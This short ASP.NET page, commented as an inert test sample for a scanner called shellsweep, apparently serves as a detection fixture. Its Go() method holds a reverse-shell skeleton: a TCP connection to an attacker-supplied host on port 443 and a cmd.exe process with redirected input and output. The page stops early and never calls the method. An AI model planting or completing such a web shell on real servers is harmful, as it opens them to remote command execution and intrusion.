<%@ Page Language="C#" %>
<%-- shellsweep test sample: inert, never functional --%>
<% Response.End(); %>
<script runat="server">
void Go() {
  var c = new System.Net.Sockets.TcpClient(Request.Form["h"], 443);
  var p = new System.Diagnostics.Process(); p.StartInfo.FileName = "cmd.exe";
  p.StartInfo.RedirectStandardInput = true; p.StartInfo.RedirectStandardOutput = true; p.StartInfo.UseShellExecute = false;
  p.Start();
}
</script>
